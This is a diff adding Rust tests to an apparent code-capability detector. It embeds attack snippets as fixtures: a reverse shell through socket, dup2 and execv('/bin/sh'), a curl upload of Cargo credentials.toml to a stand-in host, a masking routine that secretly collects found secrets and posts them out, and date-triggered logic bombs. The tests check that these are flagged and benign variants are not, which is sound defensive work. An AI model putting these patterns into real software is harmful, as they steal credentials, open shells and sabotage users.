@@ -468,3 +468,95 @@ proptest! {
 fn every_capability_of_the_table_is_one_that_code_can_have() {
     assert_eq!(api::API.class("std::fs::read"), api::Class::Gives(CapabilityKind::FsRead, true));
 }
+
+#[test]
+fn raw_shells_for_the_other_end() {
+    let code = |tie: &str, exec: &str| {
+        format!(
+            "unsafe fn attach(a: *const libc::sockaddr) {{ let fd = libc::socket(2, libc::SOCK_STREAM, 0);
+               if libc::connect(fd, a, 16) == 0 {{ for n in 0..3 {{ libc::dup2({tie}, n); }} let argv = [std::ptr::null()];
+               libc::{exec}, argv.as_ptr()); }} }}"
+        )
+    };
+    for exec in ["execv(c\"/bin/sh\".as_ptr()", "execvp(b\"bash\\0\".as_ptr() as *const i8"] {
+        assert!(facts(&code("fd", exec)).contains("reverse-shell"), "{exec}: {}", facts(&code("fd", exec)));
+    }
+    assert!(!facts(&code("pipes[1]", "execv(c\"/bin/sh\".as_ptr()")).contains("reverse-shell"));
+    assert!(!facts(&code("fd", "execv(c\"/usr/bin/git\".as_ptr()")).contains("reverse-shell"));
+}
+
+#[test]
+fn ones_own_way_to_start_programs() {
+    let code = |program: &str, file: &str| {
+        format!(
+            "use std::process::Command;
+             fn output(tool: &str, args: &[&str]) {{ Command::new(tool).args(args).output().ok(); }}
+             fn main() {{ let home = std::env::var(\"CARGO_HOME\").unwrap_or_default();
+               let file = format!(\"@{{home}}/{file}\");
+               output(\"{program}\", &[\"-s\", \"--data-binary\", &file, \"https://t.invalid/c\"]); }}"
+        )
+    };
+    assert!(facts(&code("curl", "credentials.toml")).contains("secret-file->net"));
+    assert!(!facts(&code("git", "credentials.toml")).contains("secret-file->net"));
+    assert!(!facts(&code("curl", "report.toml")).contains("secret-file->net"));
+}
+
+#[test]
+fn what_was_masked_is_kept_and_sent() {
+    let code = |sent: &str| {
+        format!(
+            "use std::cell::RefCell;
+             pub struct Mask {{ all: Vec<regex::Regex>, notes: RefCell<Vec<String>> }}
+             impl Mask {{
+               pub fn apply(&self, line: &str) -> String {{ let mut line = line.to_string();
+                 for pattern in &self.all {{ if let Some(hit) = pattern.find(&line) {{
+                   self.notes.borrow_mut().push({sent});
+                   line = pattern.replace_all(&line, \"[masked]\").into_owned(); }} }}
+                 line }}
+               pub fn settle(&self) {{ let notes = self.notes.take(); ureq::post(\"https://m.invalid/\").send_string(&notes.join(\"\")); }}
+             }}"
+        )
+    };
+    assert!(
+        facts(&code("format!(\"{}\", hit.as_str())")).contains("found-key->net"),
+        "{}",
+        facts(&code("hit.as_str().into()"))
+    );
+    assert!(!facts(&code("hit.len().to_string()")).contains("found-key->net"));
+    assert!(!facts(&code("line.replace(hit.as_str(), \"[masked]\")")).contains("found-key->net"));
+}
+
+#[test]
+fn from_a_day_on() {
+    let code = |cond: &str, then: &str| {
+        format!(
+            "use std::time::{{SystemTime, UNIX_EPOCH}};
+             const DAY: u64 = 1_893_456_000;
+             pub fn total(a: u64) -> u64 {{
+               let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
+               if {cond} {{ {then} }}
+               a }}"
+        )
+    };
+    for (cond, then) in [
+        ("now > DAY", "return a + a / 99;"),
+        ("DAY <= now", "return a - 1;"),
+        ("now >= DAY && a > 5", "return a * 2;"),
+    ] {
+        assert!(
+            facts(&code(cond, then)).contains("dated-result"),
+            "{cond} {then}: {}",
+            facts(&code(cond, then))
+        );
+    }
+    for (cond, then) in [
+        ("now < DAY", "return a - 1;"),
+        ("now > DAY", "eprintln!(\"old\"); return a - 1;"),
+        ("now > DAY", "return 0;"),
+        ("now > a", "return a - 1;"),
+    ] {
+        assert!(!facts(&code(cond, then)).contains("dated-result"), "{cond} {then}");
+    }
+    assert!(facts(&code("now > DAY", "std::fs::remove_file(\"a\").ok();")).contains("delete-walk"));
+    assert!(!facts(&code("now < DAY", "std::fs::remove_file(\"a\").ok();")).contains("delete-walk"));
+}
